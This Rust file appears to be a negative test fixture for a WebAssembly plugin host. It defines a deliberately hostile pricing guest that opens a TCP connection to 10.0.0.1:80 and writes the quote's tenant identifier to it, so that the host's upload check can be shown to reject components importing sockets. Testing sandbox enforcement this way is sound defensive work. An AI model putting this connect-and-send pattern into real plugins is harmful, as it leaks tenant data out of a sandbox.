//! Hostile: a pricing guest that opens a TCP connection with `std::net`, so the component
//! imports `wasi:sockets/*`. The host must refuse it at upload.

wit_bindgen::generate!({ path: "../../wit", world: "pricing" });

use std::hint::black_box;
use std::io::Write;

struct WasiSockets;

impl Guest for WasiSockets {
    fn price(quote: Quote) -> Result<Priced, String> {
        let mut conn =
            std::net::TcpStream::connect(black_box("10.0.0.1:80")).map_err(|e| e.to_string())?;
        conn.write_all(quote.tenant.as_bytes())
            .map_err(|e| e.to_string())?;
        Ok(Priced {
            currency: quote.currency,
            lines: quote.lines,
        })
    }
}

export!(WasiSockets);
